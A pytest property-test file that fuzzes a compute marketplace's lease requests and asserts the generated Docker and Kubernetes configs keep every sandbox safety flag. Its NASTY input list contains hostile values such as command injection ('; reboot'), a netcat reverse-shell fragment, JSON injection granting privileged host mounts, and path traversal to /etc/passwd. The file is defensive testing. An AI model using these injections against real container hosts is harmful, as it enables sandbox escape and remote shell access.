"""Hostile tenants: whatever a lease asks for, what is sent to a backend carries every safety flag and nothing else."""

from __future__ import annotations

import copy
import random
from typing import Any

import msgspec
import pytest
from lightkube.resources.core_v1 import Pod

from marketplace.spot.compute import Spec, docker, kubernetes
from tests.services.kubelet import expand

REQUESTS = 10_000
IMAGE = {"Id": "sha256:" + "0" * 64, "Config": {"Volumes": {"/data": {}, "/proc": {}}}}

NASTY = [
    "",
    " ",
    "\0",
    "\n",
    "\ud800",
    "\u202e",
    "$(reboot)",
    "$$(PATH)",
    "`reboot`",
    "; reboot",
    "&& reboot",
    "| nc -e /bin/sh 10.0.0.1 1",
    "'\"",
    "-v",
    "--privileged",
    "--volume=/:/host",
    "--network=host",
    '{"Privileged":true}',
    '"},"HostConfig":{"Privileged":true,"Binds":["/:/host"]},"x":{"',
    "hostNetwork: true",
    "../../etc/passwd",
    "/var/run/docker.sock",
    "%00",
    "?force=1&v=1",
    "LD_PRELOAD",
    "PATH",
    "a=b",
    "A" * 40_000,
    "é☃💥",
]
IMAGES = [
    "busybox",
    "busybox:1",
    "host:5000/a/b@sha256:" + "a" * 64,
    "sha256:" + "0" * 64,
    "scratch",
    "a/../b",
    "-x",
    "A",
]
NUMBERS = [-1, 0, 1, 9, 10, 15, 16, 100, 2_000, 256_000, 256_001, 2**31, 2**63, 2**64]

SAFE_HOST_CONFIG = {
    "PidsLimit": 512,
    "Privileged": False,
    "CapAdd": [],
    "CapDrop": ["ALL"],
    "SecurityOpt": ["no-new-privileges:true"],
    "ReadonlyRootfs": True,
    "Tmpfs": dict.fromkeys(("/tmp", "/data", "/proc"), "rw,noexec,nosuid,nodev,size=64m,mode=1777,uid=65534,gid=65534"),
    "Binds": [],
    "Mounts": [],
    "VolumesFrom": [],
    "Devices": [],
    "NetworkMode": "bridge",
    "PidMode": "",
    "UTSMode": "",
    "IpcMode": "private",
    "CgroupnsMode": "private",
    "PublishAllPorts": False,
    "PortBindings": {},
    "Init": True,
    "RestartPolicy": {"Name": "no"},
    "AutoRemove": False,
    "LogConfig": {"Type": "json-file", "Config": {"max-size": "10m", "max-file": "1"}},
}
SAFE_POD = {
    "restartPolicy": "Never",
    "automountServiceAccountToken": False,
    "enableServiceLinks": False,
    "hostNetwork": False,
    "hostPID": False,
    "hostIPC": False,
    "shareProcessNamespace": False,
    "securityContext": {
        "runAsNonRoot": True,
        "runAsUser": 65534,
        "runAsGroup": 65534,
        "fsGroup": 65534,
        "seccompProfile": {"type": "RuntimeDefault"},
    },
    "volumes": [{"name": "scratch", "emptyDir": {"medium": "Memory", "sizeLimit": "64Mi"}}],
    "nodeSelector": {},
    "tolerations": [],
}
SAFE_CONTAINER = {
    "name": "lease",
    "imagePullPolicy": "IfNotPresent",
    "securityContext": {
        "privileged": False,
        "allowPrivilegeEscalation": False,
        "readOnlyRootFilesystem": True,
        "runAsNonRoot": True,
        "runAsUser": 65534,
        "runAsGroup": 65534,
        "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"},
    },
    "volumeMounts": [{"name": "scratch", "mountPath": "/tmp"}],
    "stdin": False,
    "tty": False,
}


def make_request(dice: random.Random) -> dict[str, Any]:
    """Return one request, each field of it hostile now and then, so that many pass and many do not."""

    def text() -> str:
        return "".join(dice.choices(NASTY, k=dice.choice((1, 1, 2))))

    def number(usual: int) -> int:
        return dice.choice(NUMBERS) if dice.random() < 0.1 else usual

    def name() -> str:
        return text() if dice.random() < 0.1 else f"V{dice.randrange(99)}"

    return {
        "lease_id": text() if dice.random() < 0.05 else f"lease-{dice.randrange(10**9)}",
        "image": text() if dice.random() < 0.05 else dice.choice(IMAGES),
        "cpu_millis": number(500),
        "memory_mib": number(64),
        "grace_seconds": number(30),
        "command": tuple(text() for _ in range(dice.randrange(5))),
        "environment": {name(): text() for _ in range(dice.randrange(4))},
    }


def hostile_specs() -> list[Spec]:
    """Return what got past the bounds. Many must, and many must not: else the requests would prove nothing."""
    dice = random.Random(5)
    passed: list[Spec] = []
    for _ in range(REQUESTS):
        try:
            passed.append(Spec(**make_request(dice)))
        except ValueError:
            continue
    assert REQUESTS // 10 < len(passed) < REQUESTS * 9 // 10
    return passed


@pytest.mark.property
def test_ten_thousand_hostile_requests_change_no_safety_flag_of_docker() -> None:
    for spec in hostile_specs():
        sent = docker.container_config(spec, "town", docker.Settings(), IMAGE)
        host = sent.pop("HostConfig")
        assert (host.pop("NanoCpus"), host.pop("Memory")) == (spec.cpu_millis * 10**6, spec.memory_mib << 20)
        assert host.pop("MemorySwap") == spec.memory_mib << 20
        assert host == SAFE_HOST_CONFIG
        assert (sent.pop("Entrypoint", []), sent.pop("Cmd", [])) == ([*spec.command], [])
        assert dict(variable.split("=", 1) for variable in sent.pop("Env")) == spec.environment
        assert sent.pop("Labels") == {"marketplace.owner": "town", "marketplace.lease": spec.lease_id}
        assert sent == {"Image": IMAGE["Id"], "User": "65534:65534", "Tty": False, "OpenStdin": False}


@pytest.mark.property
def test_ten_thousand_hostile_requests_change_no_safety_flag_of_kubernetes() -> None:
    for spec in hostile_specs():
        sent = kubernetes.pod_manifest(spec, "town", kubernetes.Settings())
        assert msgspec.to_builtins(msgspec.convert(copy.deepcopy(sent), Pod)) == sent
        pod, metadata = sent.pop("spec"), sent.pop("metadata")
        (container,) = pod.pop("containers")
        assert pod.pop("terminationGracePeriodSeconds") == spec.grace_seconds
        assert pod == SAFE_POD
        variables = {variable["name"]: variable["value"] for variable in container.pop("env")}
        assert {name: expand(value, variables) for name, value in variables.items()} == spec.environment
        assert [expand(word, variables) for word in container.pop("command", [])] == [*spec.command]
        amounts = {"cpu": f"{spec.cpu_millis}m", "memory": f"{spec.memory_mib}Mi"}
        assert container.pop("resources") == {"requests": amounts, "limits": amounts}
        assert container.pop("image") == spec.image
        assert container == SAFE_CONTAINER
        assert metadata == {
            "name": f"town-{spec.lease_id}",
            "labels": {"marketplace.owner": "town", "marketplace.lease": spec.lease_id},
            "finalizers": ["spot.marketplace/outcome"],
        }
        assert sent == {"apiVersion": "v1", "kind": "Pod"}
